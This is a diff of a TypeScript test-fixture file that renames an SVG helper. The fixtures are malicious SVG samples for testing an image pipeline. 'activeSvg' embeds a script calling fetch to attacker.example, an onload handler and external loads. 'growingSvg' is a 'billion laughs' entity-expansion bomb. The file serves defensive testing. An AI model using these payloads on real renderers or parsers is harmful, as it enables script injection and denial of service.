@@ -38,11 +38,11 @@ export function makePng({ width, height, rows, comment = 0 }: PngOptions): Buffe
   ]);
 }
 
-const svg = (content: string, before = '') =>
+const makeSvg = (content: string, before = '') =>
   Buffer.from(`${before}<svg xmlns="http://www.w3.org/2000/svg" width="50" height="60">${content}</svg>`);
 
 /** An SVG that tries to run scripts and to load files. An image must do neither. */
-export const activeSvg = svg(`
+export const activeSvg = makeSvg(`
   <script>top.attacked = true; fetch('https://attacker.example/script')</script>
   <rect width="50" height="60" fill="red" onload="top.attacked = true"/>
   <image href="https://attacker.example/image.png" width="9" height="9"/>
@@ -51,7 +51,7 @@ export const activeSvg = svg(`
   <foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://attacker.example/"/></foreignObject>`);
 
 /** An SVG whose text would grow to 10^9 copies of a word ("billion laughs"). */
-export const growingSvg = svg(
+export const growingSvg = makeSvg(
   '<text>&e9;</text>',
   `<!DOCTYPE svg [<!ENTITY e0 "word">${Array.from({ length: 9 }, (_, level) => `<!ENTITY e${level + 1} "${`&e${level};`.repeat(10)}">`).join('')}]>`,
 );
